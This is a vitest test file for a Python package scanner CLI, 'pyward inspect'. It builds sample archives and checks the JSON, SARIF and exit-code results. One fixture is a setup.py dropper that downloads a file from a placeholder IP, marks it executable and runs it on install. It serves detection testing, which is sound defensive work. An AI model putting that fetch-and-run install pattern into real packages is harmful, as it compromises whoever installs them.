/**
 * `pyward inspect` through the built CLI (npm run build first), on packages built here at run time:
 * an inert model of a setup.py dropper, an honest wheel, and inputs that cannot be read.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTar, makeZip } from '../src/archive/testing.js';
import { pyward } from './support/cli.js';

const dir = mkdtempSync(join(tmpdir(), 'pyward-inspect-'));
const dropper = join(dir, 'dropper-1.0.tar.gz');
const honest = join(dir, 'honest-2.0-py3-none-any.whl');

beforeAll(async () => {
  writeFileSync(
    dropper,
    await makeTar([
      {
        name: 'dropper-1.0/setup.py',
        content: [
          'import os, subprocess, urllib.request',
          'from setuptools import setup',
          "path = '/tmp/placeholder'",
          "urllib.request.urlretrieve('http://203.0.113.5/placeholder', path)",
          'os.chmod(path, 0o755)',
          'subprocess.Popen([path])',
          "setup(name='dropper')",
          '',
        ].join('\n'),
      },
      { name: 'dropper-1.0/PKG-INFO', content: 'Metadata-Version: 2.1\nName: dropper\nVersion: 1.0\n' },
    ]),
  );
  writeFileSync(
    honest,
    makeZip([
      { name: 'honest/__init__.py', content: 'def add(a, b):\n    return a + b\n' },
      { name: 'honest-2.0.dist-info/METADATA', content: 'Metadata-Version: 2.1\nName: honest\nVersion: 2.0\n' },
    ]),
  );
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('pyward inspect', () => {
  it('reports per package in JSON and fails on the malicious one', () => {
    const r = pyward(['inspect', '--format', 'json', dropper, honest]);
    expect(r.code).toBe(1);
    const out = JSON.parse(r.stdout) as { packages: { name: string; version: string; verdict: string; score: number; findings: { rule: string; severity: string; file: string; line: number | null }[] }[] };
    const [bad, good] = out.packages;
    expect(bad).toMatchObject({ name: 'dropper', version: '1.0', verdict: 'malicious' });
    expect(bad!.findings).toContainEqual(expect.objectContaining({ rule: 'download-executable', severity: 'high', file: 'dropper-1.0/setup.py', line: 6 }));
    expect(good).toMatchObject({ name: 'honest', version: '2.0', verdict: 'clean', score: 0, findings: [] });
  });

  it('exits 0 when every package is clean', () => {
    const r = pyward(['inspect', honest]);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('CLEAN  honest 2.0');
  });

  it('points SARIF locations into the archive', () => {
    const r = pyward(['inspect', '--format', 'sarif', dropper]);
    const sarif = JSON.parse(r.stdout) as { runs: { results: { ruleId: string; locations: { physicalLocation: { artifactLocation: { uri: string }; region?: { startLine: number } } }[] }[] }[] };
    // Both the chmod (line 5) and the start (line 6) of the downloaded file are evidence.
    const result = sarif.runs[0]!.results.find((x) => x.ruleId === 'download-executable' && x.locations[0]!.physicalLocation.region?.startLine === 6)!;
    expect(result.locations[0]!.physicalLocation).toMatchObject({
      artifactLocation: { uri: 'dropper-1.0.tar.gz/dropper-1.0/setup.py' },
      region: { startLine: 6 },
    });
  });

  it('an unreadable input is exit 2 while the others are still reported', () => {
    const notArchive = join(dir, 'notes.txt');
    writeFileSync(notArchive, 'hello');
    const r = pyward(['inspect', '--format', 'json', honest, notArchive, join(dir, 'missing.whl')]);
    expect(r.code).toBe(2);
    const out = JSON.parse(r.stdout) as { packages: unknown[]; diagnostics: { code: string }[] };
    expect(out.packages).toHaveLength(1);
    expect(out.diagnostics.map((d) => d.code)).toEqual(['input-unknown-format', 'input-not-found']);
  });

  it('explains rules, and refuses unknown ones and empty calls with exit 2', () => {
    const r = pyward(['inspect', '--explain', 'exec-decoded']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('exec-decoded (critical, threat)');
    expect(pyward(['inspect', '--explain', 'nope']).code).toBe(2);
    expect(pyward(['inspect']).code).toBe(2);
  });
});
